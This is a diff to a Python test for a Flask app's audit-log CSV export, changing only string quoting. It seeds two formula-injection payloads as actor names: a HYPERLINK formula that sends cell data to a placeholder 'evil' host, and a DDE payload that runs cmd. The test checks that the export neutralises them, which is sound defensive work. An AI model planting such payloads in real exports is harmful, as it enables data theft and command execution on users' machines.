@@ -189,7 +189,7 @@ def _seed_events() -> None:
                 ("alice", "view_patient", 11),
                 ("alice", "export_pdf", None),
                 ("bob", "view_patient", 12),
-                ("=HYPERLINK(\"http://evil/?\"&A1)", "login_failed", None),
+                ('=HYPERLINK("http://evil/?"&A1)', "login_failed", None),
                 ("@SUM(1+1)*cmd|' /C calc'!A0", "login_failed", None),
             ]
         ):
@@ -241,7 +241,7 @@ def test_audit_export_is_filtered_and_formula_safe(app: Flask, admin_client: Fla
     assert header not in data
     assert header[:5] == ["id", "occurred_at_utc", "actor", "role", "action"]
     actors = [row[2] for row in data]
-    assert "'=HYPERLINK(\"http://evil/?\"&A1)" in actors
+    assert '\'=HYPERLINK("http://evil/?"&A1)' in actors
     assert "'@SUM(1+1)*cmd|' /C calc'!A0" in actors
     for row in data:
         for cell in row:
